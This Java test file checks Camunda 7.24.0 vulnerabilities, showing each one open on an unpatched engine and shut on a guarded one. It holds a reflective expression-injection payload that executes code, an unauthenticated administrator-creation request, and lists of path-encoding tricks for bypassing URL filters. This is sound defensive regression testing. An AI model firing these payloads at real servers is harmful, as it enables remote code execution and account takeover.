package fr.ampli.process.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import bare.BareCamunda;
import fr.ampli.ScenarioTest;
import fr.ampli.web.security.HttpBrowser;
import io.zonky.test.db.postgres.embedded.EmbeddedPostgres;
import java.io.File;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.script.ScriptEngineManager;
import org.camunda.bpm.engine.BadUserRequestException;
import org.camunda.bpm.engine.FilterService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.filter.Filter;
import org.camunda.bpm.engine.impl.TaskQueryImpl;
import org.camunda.bpm.engine.task.TaskQuery;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * The published holes of Camunda 7.24.0, each shown open on the engine as it comes and shut on ours. Where the first
 * half of a test fails after an upgrade, the guard can go.
 */
class KnownHolesTest extends ScenarioTest {

    private static final File MARK = new File("target/hole-" + UUID.randomUUID());

    /** Code that an expression runs: leaves a file. */
    private static final String CODE = "${''.getClass().forName('java.io.File').getConstructor(''.getClass())"
            + ".newInstance('" + MARK.getAbsolutePath() + "').createNewFile()}";

    private static final String SMUGGLED =
            "{\"orQueries\":[{\"nameLike\":\"x\",\"assigneeExpression\":\"" + CODE + "\"}]}";

    private static EmbeddedPostgres database;
    private static Process unguarded;
    private static int unguardedPort;

    @LocalServerPort
    int port;

    @BeforeAll
    static void anEngineAsItComes() throws IOException {
        database = EmbeddedPostgres.start();
        Path said = Files.createTempFile(Path.of("target"), "bare", ".log");
        unguarded = new ProcessBuilder(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "-cp",
                        System.getProperty("surefire.test.class.path", System.getProperty("java.class.path")),
                        BareCamunda.class.getName(),
                        database.getJdbcUrl("postgres", "postgres"))
                .redirectErrorStream(true)
                // Not a pipe: nobody reads it to the end, and a full one would hold the process
                .redirectOutput(said.toFile())
                .start();
        await().atMost(Duration.ofMinutes(3)).until(() -> port(said) > 0 || !unguarded.isAlive());
        unguardedPort = port(said);
        assertThat(unguardedPort).as(Files.readString(said)).isPositive();
    }

    private static int port(Path said) throws IOException {
        return Files.readAllLines(said).stream()
                .filter(line -> line.startsWith("PORT "))
                .mapToInt(line -> Integer.parseInt(line.substring(5)))
                .findFirst()
                .orElse(0);
    }

    @AfterAll
    static void endIt() throws Exception {
        unguarded.destroy();
        unguarded.waitFor();
        database.close();
    }

    @AfterEach
    void clean() {
        MARK.delete();
    }

    /** Whether the code ran; forgets it. */
    private static boolean ran() {
        return MARK.delete();
    }

    private static TaskQuery smuggling(ProcessEngine engine) {
        return engine.getTaskService()
                .createTaskQuery()
                .or()
                .taskNameLike("x")
                .taskAssigneeExpression(CODE)
                .endOr();
    }

    @Test
    void cve_2026_109432_a_query_smuggles_an_expression_past_the_ban() throws IOException {
        assertThat(post(unguardedPort, "/engine-rest/task", "{\"assigneeExpression\":\"" + CODE + "\"}", false))
                .as("the ban itself")
                .startsWith("HTTP/1.1 400");
        assertThat(ran()).as("the ban itself").isFalse();
        for (String path : List.of("/engine-rest/task", "/engine-rest/task/count")) {
            post(unguardedPort, path, SMUGGLED, false);
            assertThat(ran()).as("on the engine as it comes: %s", path).isTrue();
        }

        for (Runnable attempt : List.<Runnable>of(
                () -> smuggling(engine).list(),
                () -> smuggling(engine).count(),
                () -> smuggling(engine).listPage(0, 1),
                () -> smuggling(engine).singleResult())) {
            assertThatThrownBy(attempt::run).isInstanceOf(BadUserRequestException.class);
        }
        assertThat(ran()).as("on ours").isFalse();
        assertThatCode(() -> engine.getTaskService()
                        .createTaskQuery()
                        .or()
                        .taskNameLike("x")
                        .taskUnassigned()
                        .endOr()
                        .list())
                .as("a harmless one")
                .doesNotThrowAnyException();
    }

    @Test
    void cve_2026_109432_a_filter_is_extended_by_the_same_trick() throws IOException {
        String theirs = theirFilter("{\"nameLike\":\"x\"}");
        for (String how : List.of("/list", "/count", "/singleResult")) {
            post(unguardedPort, "/engine-rest/filter/" + theirs + how, SMUGGLED, false);
            assertThat(ran()).as("on the engine as it comes: %s", how).isTrue();
        }

        String ours = listOf(engine);
        FilterService filters = engine.getFilterService();
        for (Runnable attempt : List.<Runnable>of(
                () -> filters.list(ours, smuggling(engine)),
                () -> filters.listPage(ours, smuggling(engine), 0, 1),
                () -> filters.count(ours, smuggling(engine)),
                () -> filters.singleResult(ours, smuggling(engine)),
                () -> filters.list(
                        ours, engine.getTaskService().createTaskQuery().taskAssigneeExpression("${currentUser()}")))) {
            assertThatThrownBy(attempt::run).isInstanceOf(BadUserRequestException.class);
        }
        assertThat(ran()).as("on ours").isFalse();
        filters.deleteFilter(ours);
    }

    @Test
    void a_stored_filter_runs_any_expression() throws IOException {
        String theirs = theirFilter("{\"assigneeExpression\":\"" + CODE + "\"}");
        exchange(unguardedPort, "GET /engine-rest/filter/" + theirs + "/list HTTP/1.1\r\n", "");
        assertThat(ran()).as("on the engine as it comes").isTrue();

        FilterService filters = engine.getFilterService();
        for (TaskQuery query : List.of(
                new TaskQueryImpl().taskAssigneeExpression(CODE),
                new TaskQueryImpl()
                        .or()
                        .taskAssigneeExpression(CODE)
                        .taskNameLike("x")
                        .endOr(),
                new TaskQueryImpl().taskAssigneeExpression("${currentUser().toString()}"),
                new TaskQueryImpl().taskAssigneeExpression("${currentUser()}" + CODE))) {
            Filter ours = filters.newTaskFilter("Code");
            ours.setQuery(query);
            assertThatThrownBy(() -> filters.saveFilter(ours)).isInstanceOf(BadUserRequestException.class);
        }
        // One that somebody put there behind our back does not run either
        Filter harmless = filters.newTaskFilter("Glissé");
        harmless.setQuery(new TaskQueryImpl()
                .taskAssigneeExpression("${currentUser()}")
                .dueBeforeExpression("${dateTime().plusDays(7).withTimeAtStartOfDay()}"));
        String slipped = filters.saveFilter(harmless).getId();

        jdbc.sql("update act_ru_filter set query_ = replace(query_, 'currentUser()', :code) where id_ = :id")
                .param("code", CODE.substring(2, CODE.length() - 1))
                .param("id", slipped)
                .update();
        assertThatThrownBy(() -> filters.list(slipped)).isInstanceOf(BadUserRequestException.class);
        assertThatThrownBy(() -> filters.count(slipped)).isInstanceOf(BadUserRequestException.class);
        assertThat(ran()).as("on ours").isFalse();
        filters.deleteFilter(slipped);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/camunda/api/engine/engine/default/task",
                "/camunda/api/engine/engine/default/task/count",
                "/camunda/api/engine/engine/default;a=b/task",
                "/camunda/api/engine/engine/default//task",
                "/camunda/api/engine/engine/default/x/../task",
                "/camunda/api/engine/engine/default/%74ask",
                "/camunda/api/engine/engine/default/task;a=b",
                "/camunda/api/engine/engine/default/task%3Ba=b",
                "/engine-rest/task",
                "/engine-rest/engine/default/task",
                "/engine-rest/task/count",
                "/engine-rest//task",
                "/engine-rest/task;a=b",
                "/engine-rest/%74ask",
                "/engine-rest/x/../task"
            })
    void cve_2026_109432_over_http_however_the_path_is_written(String path) throws Exception {
        String answer = post(port, path, SMUGGLED, true);
        assertThat(answer).containsPattern("^HTTP/1.1 40[0134]");
        assertThat(ran()).isFalse();
    }

    @Test
    void cve_2026_109432_is_shut_for_who_is_logged_in() throws Exception {
        HttpBrowser officer = HttpBrowser.of(port, "instructeur", DemoPassword.VALUE);
        String api = "/camunda/api/engine/engine/default";
        String harmless = "{\"orQueries\":[{\"nameLike\":\"x\",\"assignee\":\"instructeur\"}]}";
        String list = engine.getFilterService()
                .createFilterQuery()
                .filterName(TaskLists.MINE)
                .singleResult()
                .getId();
        for (String path : List.of(
                "/task",
                "/task/count",
                "/filter/" + list + "/list",
                "/filter/" + list + "/count",
                "/filter/" + list + "/singleResult")) {
            assertThat(officer.post(api + path, SMUGGLED).statusCode()).as(path).isEqualTo(400);
            if (!path.endsWith("singleResult")) { // there may be many
                assertThat(officer.post(api + path, harmless).statusCode())
                        .as(path)
                        .isLessThan(300);
            }
        }
        assertThat(ran()).isFalse();
        String filter =
                "{\"resourceType\":\"Task\",\"name\":\"Code\",\"query\":{\"assigneeExpression\":\"" + CODE + "\"}}";
        for (String person : List.of("instructeur", "responsable", "admin")) {
            HttpBrowser browser = HttpBrowser.of(port, person, DemoPassword.VALUE);
            assertThat(browser.post(api + "/filter/create", filter).statusCode())
                    .as(person)
                    .isEqualTo(403);
            assertThat(browser.change("PUT", api + "/filter/" + list, filter).statusCode())
                    .as(person)
                    .isEqualTo(403);
        }
    }

    @Test
    void cve_2026_77226_anybody_creates_an_administrator_where_none_is() throws Exception {
        String body = "{\"profile\":{\"id\":\"intruder\",\"firstName\":\"I\",\"lastName\":\"N\"},"
                + "\"credentials\":{\"password\":\"Essai-2026-secret!\"}}";
        assertThat(withCsrf(unguardedPort, "/camunda/api/admin/setup/default/user/create", body))
                .as("on the engine as it comes")
                .startsWith("HTTP/1.1 204");

        for (String path :
                variantsOf("/camunda/api/admin/setup/default/user/create").toList()) {
            assertThat(withCsrf(port, path, body)).as(path).containsPattern("^HTTP/1.1 40[0134]");
        }
        assertThat(engine.getIdentityService()
                        .createUserQuery()
                        .userId("intruder")
                        .count())
                .as("on ours")
                .isZero();
    }

    @Test
    void no_script_engine_is_there_to_run_a_script() {
        assertThat(new ScriptEngineManager().getEngineFactories())
                .extracting(factory -> factory.getNames().toString())
                // Camunda's own: decision tables, and expressions by another name
                .allMatch(names -> names.contains("feel") || names.equals("[juel]"));
    }

    private static Stream<String> variantsOf(String path) {
        return Stream.of(
                path,
                path.replace("/setup/", "/setup;a=b/"),
                path.replace("/setup/", "//setup/"),
                path.replace("/setup/", "/x/../setup/"),
                path.replace("/setup/", "/./setup/"),
                path.replace("setup", "%73etup"),
                path.replace("/setup/", "/setup%2F"),
                path.replace("/setup/", "/%2e%2e/admin/setup/"),
                path + "/",
                path.replace("/camunda/", "/camunda//"));
    }

    private static String listOf(ProcessEngine where) {
        Filter filter = where.getFilterService().newTaskFilter("Liste");
        filter.setQuery(new TaskQueryImpl().taskNameLike("x"));
        return where.getFilterService().saveFilter(filter).getId();
    }

    private static String theirFilter(String query) throws IOException {
        String made = post(
                unguardedPort,
                "/engine-rest/filter/create",
                "{\"resourceType\":\"Task\",\"name\":\"Liste\",\"query\":" + query + "}",
                false);
        var id = Pattern.compile("\"id\":\"([^\"]+)\"").matcher(made);
        assertThat(id.find()).as(made).isTrue();
        return id.group(1);
    }

    /** With the token that the web applications give to anybody who asks for a page. */
    private static String withCsrf(int port, String path, String body) throws IOException {
        String page = exchange(port, "GET /camunda/app/welcome/default/ HTTP/1.1\r\n", "");
        String token = cookie(page, "XSRF-TOKEN");
        String session = cookie(page, "JSESSIONID");
        String headers = token == null
                ? ""
                : "X-XSRF-TOKEN: " + token + "\r\nCookie: XSRF-TOKEN=" + token + "; JSESSIONID=" + session + "\r\n";
        return exchange(port, "POST " + path + " HTTP/1.1\r\n" + headers, body);
    }

    private static String cookie(String page, String name) {
        var found = Pattern.compile("Set-Cookie: " + name + "=([^;]+)").matcher(page);
        return found.find() ? found.group(1) : null;
    }

    private static String post(int port, String path, String body, boolean asAdministrator) throws IOException {
        String login = asAdministrator
                ? "Authorization: Basic "
                        + java.util.Base64.getEncoder()
                                .encodeToString(("admin:" + DemoPassword.VALUE).getBytes(StandardCharsets.US_ASCII))
                        + "\r\n"
                : "";
        return exchange(port, "POST " + path + " HTTP/1.1\r\n" + login, body);
    }

    /** By hand: an HTTP client would tidy the path. */
    private static String exchange(int port, String head, String body) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            OutputStream out = socket.getOutputStream();
            out.write(
                    (head + "Host: localhost\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: "
                                    + body.getBytes(StandardCharsets.UTF_8).length + "\r\n\r\n" + body)
                            .getBytes(StandardCharsets.UTF_8));
            out.flush();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
